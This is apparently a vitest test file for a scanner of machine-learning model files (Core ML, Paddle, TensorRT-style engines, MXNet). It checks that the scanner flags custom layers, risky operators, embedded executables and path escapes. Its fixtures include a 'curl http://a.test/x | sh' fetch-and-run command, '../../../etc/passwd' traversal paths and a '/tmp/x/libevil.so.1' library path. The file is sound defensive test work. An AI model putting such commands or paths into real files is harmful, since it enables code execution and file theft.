import { describe, expect, it } from "vitest";
import { concat, u32, u64, zeros } from "../builders/bytes.js";
import { field, integer, message } from "../builders/protobuf.js";
import { scanBytes, told } from "../builders/scan.js";

const scan = async (name: string, bytes: Uint8Array | string) => told(await scanBytes(name, bytes));

describe("a Core ML model", () => {
  const model = (...fields: readonly Uint8Array[]) => message(integer(1, 4), ...fields);
  const layer = (name: string, ...kind: readonly Uint8Array[]) => field(1, field(1, name), ...kind);
  const custom = (className: string, ...rest: readonly Uint8Array[]) => field(500, field(10, className), ...rest);
  const network = (...layers: readonly Uint8Array[]) => field(500, ...layers);
  const relu = layer("relu", field(130, field(10)));

  it("is silent with built-in layers", async () => {
    const described = field(2, field(1, field(1, "input")), field(100, field(3, "A. Author")));
    expect(await scan("net.mlmodel", model(described, network(relu)))).toEqual([]);
    const report = await scanBytes("net.bin", model(described, network(relu)));
    expect(report.formats).toEqual(["coreml"]);
  });

  it("tells custom layers, also inside branches, loops and pipelines", async () => {
    const evil = layer("c", custom("ShellLayer"));
    const branch = layer("b", field(605, field(2, evil)));
    const loop = layer("l", field(615, field(4, evil)));
    for (const found of [evil, branch, loop]) {
      expect(await scan("net.mlmodel", model(network(relu, found)))).toEqual(["medium coreml/custom-code"]);
    }
    const pipeline = field(
      202,
      field(1, model(network(relu))),
      field(1, model(field(202, field(1, model(network(evil)))))),
    );
    expect(await scan("net.mlmodel", model(pipeline))).toEqual(["medium coreml/custom-code"]);
    const classifier = field(200, field(1, field(1, model(network(evil)))));
    expect(await scan("net.mlmodel", model(classifier))).toEqual(["medium coreml/custom-code"]);
  });

  it("tells commands among the parameters of a custom layer", async () => {
    const parameter = field(30, field(1, "hook"), field(2, field(20, "curl http://a.test/x | sh")));
    expect(await scan("net.mlmodel", model(network(layer("c", custom("Layer", parameter)))))).toEqual([
      "medium config/command-text",
      "medium coreml/custom-code",
    ]);
  });

  it("grades linked models by where they lie", async () => {
    const link = (path: string) =>
      model(field(556, field(1, field(1, field(1, "other.mlmodelc")), field(2, field(1, path)))));
    expect(await scan("net.mlmodel", link("$BUNDLE_MAIN/models:."))).toEqual(["low coreml/linked-model"]);
    expect(await scan("net.mlmodel", link("/private/tmp"))).toEqual(["high coreml/external-path"]);
    expect(await scan("net.mlmodel", link("$BUNDLE_MAIN/../../x"))).toEqual(["high coreml/external-path"]);
  });

  it("is malformed where it ends behind its description", async () => {
    expect(await scan("net.mlmodel", model(field(2, field(1, field(1, "input")))))).toEqual([
      "medium analysis/malformed",
    ]);
  });

  it("names the parts of its package by paths inside it", async () => {
    const manifest = (path: string) => JSON.stringify({ fileFormatVersion: "1.0.0", itemInfoEntries: { A: { path } } });
    expect(await scan("Manifest.json", manifest("com.apple.CoreML/model.mlmodel"))).toEqual([]);
    expect(await scan("Manifest.json", manifest("../../../etc/passwd"))).toEqual(["high config/path-escape"]);
  });

  it("reads ML programs", async () => {
    const program = (operation: Uint8Array) =>
      model(field(502, field(2, field(1, "main"), field(2, field(3, field(1, "CoreML5"), field(2, operation))))));
    const operation = (type: string, file: string) =>
      field(3, field(1, type), field(5, field(1, "val"), field(2, field(5, field(1, file)))));
    expect(await scan("net.mlmodel", program(operation("const", "@model_path/weights/weight.bin")))).toEqual([]);
    expect(await scan("net.mlmodel", program(operation("const", "@model_path/../../etc/passwd")))).toEqual([
      "high coreml/external-path",
    ]);
    expect(await scan("net.mlmodel", program(operation("custom_layer", "@model_path/w.bin")))).toEqual([
      "medium coreml/custom-code",
    ]);
  });
});

describe("a Paddle program", () => {
  const op = (type: string, ...attributes: readonly Uint8Array[]) => field(4, field(3, type), ...attributes);
  const text = (name: string, value: string) => field(4, field(1, name), integer(2, 2), field(5, value));
  const program = (...ops: readonly Uint8Array[]) =>
    field(1, integer(1, 0), integer(2, -1n), field(3, field(1, "x")), ...ops);

  it("is silent as an inference model", async () => {
    const callstack = text("op_callstack", "File train.py: os.system('nvidia-smi')");
    const ops = program(op("feed"), op("matmul_v2", callstack), op("relu"), op("fetch"));
    expect(await scan("infer.pdmodel", ops)).toEqual([]);
    expect((await scanBytes("__model__", ops)).formats).toEqual(["paddle-program"]);
  });

  it("tells operators that reach beyond it", async () => {
    expect(await scan("infer.pdmodel", program(op("relu"), op("py_func")))).toEqual(["medium paddle/dangerous-op"]);
    expect(await scan("infer.pdmodel", program(op("save", text("file_path", "/tmp/x"))))).toEqual([
      "high paddle/file-op",
    ]);
    expect(await scan("infer.pdmodel", program(op("load", text("file_path", "weights"))))).toEqual([
      "medium paddle/file-op",
    ]);
    expect(await scan("infer.pdmodel", program(op("listen_and_serv")))).toEqual(["high paddle/dangerous-op"]);
  });

  it("finds them in every block", async () => {
    const inner = field(1, integer(1, 1), integer(2, 0), op("py_func"));
    expect(await scan("infer.pdmodel", concat(program(op("while")), inner))).toEqual(["medium paddle/dangerous-op"]);
  });
});

const elf = concat("\x7fELF", [2, 1, 1, 0], zeros(8), [2, 0, 62, 0], zeros(200));

describe("a compiled model", () => {
  it("is silent without code", async () => {
    const engine = concat("ptrt", zeros(60), "IPluginV2DynamicExt\0GroupNorm\0", "kgen.social\0 .sortof", zeros(100));
    expect(await scan("net.engine", engine)).toEqual([]);
    expect(await scan("net.rknn", concat("RKNN", zeros(100)))).toEqual([]);
    expect(await scan("net.cntk", concat("B\0C\0N\0\0\0B\0V\0e\0r\0", zeros(100)))).toEqual([]);
  });

  it("tells programs inside it, at any place", async () => {
    expect(await scan("net.engine", concat("ftrt", zeros(60), elf))).toEqual(["high engine/native-code"]);
    expect(await scan("net.engine", concat("ftrt", zeros((4 << 20) - 6), elf))).toEqual(["high engine/native-code"]);
  });

  it("tells libraries that it names by a path", async () => {
    expect(await scan("net.plan", concat("ptrt", zeros(60), "/tmp/x/libevil.so.1\0"))).toEqual([
      "medium engine/library-path",
    ]);
    expect(await scan("net.plan", concat("ptrt", zeros(60), "libnvinfer_plugin.so.8\0"))).toEqual([
      "info engine/library-path",
    ]);
  });
});

describe("MXNet parameters", () => {
  const array = (rows: number, data: Uint8Array = zeros(4 * rows)) =>
    concat(u32(0xf993fac9), u32(0), u32(1), u64(rows), u32(1), u32(0), u32(0), data);
  const params = (names: readonly string[], ...arrays: readonly Uint8Array[]) =>
    concat(
      u64(0x112),
      u64(0),
      u64(arrays.length),
      ...arrays,
      u64(names.length),
      ...names.map((name) => concat(u64(name.length), name)),
    );

  it("are silent as named arrays", async () => {
    const sparse = concat(
      u32(0xf993fac9),
      u32(1),
      u32(2),
      u64(1),
      u64(2),
      u32(2),
      u64(9),
      u64(2),
      u32(1),
      u32(0),
      u32(0),
      u32(6),
      u32(1),
      u64(1),
      zeros(8),
      zeros(8),
    );
    const legacy = concat(u32(1), u32(3), u32(1), u32(0), u32(0), zeros(12));
    expect(await scan("m-0000.params", params(["arg:w", "arg:s", "arg:l"], array(4), sparse, legacy))).toEqual([]);
  });

  it("are told by what is no number", async () => {
    expect(await scan("m-0000.params", params(["arg:w"], array(64, concat(elf, zeros(256)).subarray(0, 256))))).toEqual(
      ["medium weights/embedded-content"],
    );
    expect(await scan("m-0000.params", params(["../../x"], array(1)))).toEqual(["medium weights/path-like-name"]);
  });

  it("are told where counts cannot be", async () => {
    expect(await scan("m-0000.params", params(["arg:w"], array(4, zeros(4))))).toEqual(["medium analysis/malformed"]);
    expect(await scan("m-0000.params", concat(u64(0x112), u64(0), u64(1n << 60n), zeros(64)))).toEqual([
      "medium analysis/malformed",
    ]);
  });
});
